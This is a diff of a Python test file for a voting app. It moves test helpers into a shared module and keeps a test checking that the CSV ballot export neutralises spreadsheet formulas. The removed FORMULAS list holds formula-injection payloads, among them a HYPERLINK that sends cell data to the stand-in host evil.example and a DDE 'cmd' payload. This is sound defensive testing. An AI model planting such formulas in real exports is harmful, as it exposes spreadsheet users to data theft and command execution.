@@ -3,18 +3,12 @@ from __future__ import annotations
 import json
 from datetime import timedelta
 
-from sqlalchemy import select
-
 from openbargain.clock import set_clock
-from openbargain.extensions import db
-from openbargain.models import Membership
 from openbargain.services import casting
 from tests import factories
 from tests.conftest import login
+from tests.helpers import FORMULAS, formula_vote, membership
 
-
-def membership(user):
-    return db.session.scalar(select(Membership).where(Membership.user_id == user.id))
 
 
 def closed_vote(world, **kw):
@@ -89,31 +83,11 @@ def test_stv_result_page(client, world):
     assert "Quota (Droop): <strong>2.00000</strong>" in html and "order of election: Individually" in html
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
-
-
-def _formula_vote(world):
-    from datetime import timedelta
-
-    from openbargain.clock import set_clock
-    from openbargain.services import casting, results
-    from openbargain.services.proposals import OptionDraft
-
-    elected = db.session.scalar(select(Membership).where(Membership.user_id == world.elected.id))
-    r = factories.make_open_referendum(world, elected, kind="ranked", title="Labels",
-                                       options=[OptionDraft(label, "Do it.") for label in FORMULAS])
-    casting.cast_ballot(world.member, world.chapter, r.id, {"ranking": FORMULAS})
-    closed = r.closes_at + timedelta(minutes=1)
-    set_clock(lambda: closed)
-    results.certify_closed()
-    return r
-
-
 def test_the_csv_export_neutralises_formulas_and_the_json_keeps_them(client, world):
     import csv
     import io
 
-    r = _formula_vote(world)
+    r = formula_vote(world)
     login(client, world.member)
     rows = list(csv.reader(io.StringIO(client.get(f"/c/riverside/referenda/{r.id}/ballots.csv").get_data(as_text=True))))
     assert rows[0] == ["ranking"] and rows[1] == ["'" + f for f in FORMULAS]
